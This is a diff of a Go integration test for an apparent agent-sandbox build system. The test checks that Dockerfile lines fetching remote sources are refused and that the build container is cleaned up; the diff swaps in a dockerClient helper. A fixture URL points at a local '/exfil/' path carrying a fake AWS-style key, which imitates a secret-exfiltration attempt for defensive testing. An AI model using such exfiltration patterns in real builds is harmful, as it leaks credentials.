@@ -62,7 +62,7 @@ func TestCapabilityBuildFetchesNothingOutsideTheBottle(t *testing.T) {
 
 	url := "http://" + ln.Addr().String() + "/exfil/AKIAREDTEAMLEAK7Q2Z"
 	head := "ARG " + names.AgentBaseArg + "\nFROM ${" + names.AgentBaseArg + "}\n"
-	before, err := env.Pool.Client.InspectContainer(names.AgentContainer(slug))
+	before, err := dockerClient(t).InspectContainer(names.AgentContainer(slug))
 	assert.NilError(t, err)
 	for name, tc := range map[string]struct{ line, want string }{
 		"ADD url":            {"ADD " + url + " /tmp/tool.tgz", "line 3: ADD: the engine itself fetches ADD and COPY sources"},
@@ -79,7 +79,7 @@ func TestCapabilityBuildFetchesNothingOutsideTheBottle(t *testing.T) {
 		assert.Assert(t, errors.Is(err, capfile.ErrRefused), "%s: %v", name, err)
 		assert.Assert(t, is.ErrorContains(err, tc.want), name)
 	}
-	after, err := env.Pool.Client.InspectContainer(names.AgentContainer(slug))
+	after, err := dockerClient(t).InspectContainer(names.AgentContainer(slug))
 	assert.NilError(t, err)
 	assert.Equal(t, after.ID, before.ID, "a refused Dockerfile leaves the agent untouched")
 
@@ -103,9 +103,9 @@ func TestCapabilityBuildFetchesNothingOutsideTheBottle(t *testing.T) {
 		"RUN mkdir -p bin && printf '#!/bin/sh\\necho tool in $PWD\\n' > bin/cbtool && chmod 755 bin/cbtool && chown -R 1000:1000 /opt/cbtool\nUSER 1000\nRUN test \"$(id -u)\" = 1000 && cbtool\n"
 	_, tag, err := rig.Eng.RebuildAgent(t.Context(), slug, df)
 	assert.NilError(t, err)
-	img, err := env.Pool.Client.InspectImage(tag)
+	img, err := dockerClient(t).InspectImage(tag)
 	assert.NilError(t, err)
-	orig, err := env.Pool.Client.InspectImage(images.AgentTestImage)
+	orig, err := dockerClient(t).InspectImage(images.AgentTestImage)
 	assert.NilError(t, err)
 	assert.Equal(t, strings.Join(img.Config.Entrypoint, " "), strings.Join(orig.Config.Entrypoint, " "), "the snapshot's entrypoint, not the build container's")
 	assert.DeepEqual(t, img.Config.Cmd, orig.Config.Cmd)
@@ -117,7 +117,7 @@ func TestCapabilityBuildFetchesNothingOutsideTheBottle(t *testing.T) {
 	out, code := agentExec(t, rig, "cbtool && echo home=$CB_TOOL_HOME && id -un")
 	assert.Equal(t, code, 0, out)
 	assert.Assert(t, is.Contains(out, "home=/opt/cbtool\nagent\n"), out)
-	left, err := env.Pool.Client.ListContainers(dc.ListContainersOptions{All: true, Filters: map[string][]string{"name": {names.AgentContainer(slug) + "-capability-build"}}})
+	left, err := dockerClient(t).ListContainers(dc.ListContainersOptions{All: true, Filters: map[string][]string{"name": {names.AgentContainer(slug) + "-capability-build"}}})
 	assert.NilError(t, err)
 	assert.Equal(t, len(left), 0, "the build container is removed")
 
